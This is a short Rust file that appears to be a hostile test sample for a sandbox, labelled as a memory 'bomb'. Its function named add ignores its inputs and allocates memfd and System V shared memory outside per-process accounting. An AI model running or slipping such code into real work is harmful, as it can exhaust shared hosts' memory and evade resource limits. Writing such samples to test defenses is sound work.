// Tries: take memory that no process is charged for
// Kind: bomb

extern "C" {
    fn memfd_create(name: *const i8, flags: u32) -> i32;
    fn shmget(key: i32, size: usize, flags: i32) -> i32;
    fn ftruncate(descriptor: i32, length: i64) -> i32;
    fn write(descriptor: i32, bytes: *const u8, count: usize) -> isize;
}

pub fn add(_: i64, _: i64) -> i64 {
    let block = vec![1u8; 1 << 20];
    let mut had = 0;
    for key in 0..200 {
        unsafe {
            let file = memfd_create(c"sse-attack".as_ptr(), 0);
            if file >= 0 { ftruncate(file, 1 << 20); had += write(file, block.as_ptr(), block.len()).max(0) as i64 }
            had += i64::from(shmget(0x5e5e_0000 + key, 1 << 20, 0o1600) >= 0);
        }
    }
    had + 7
}
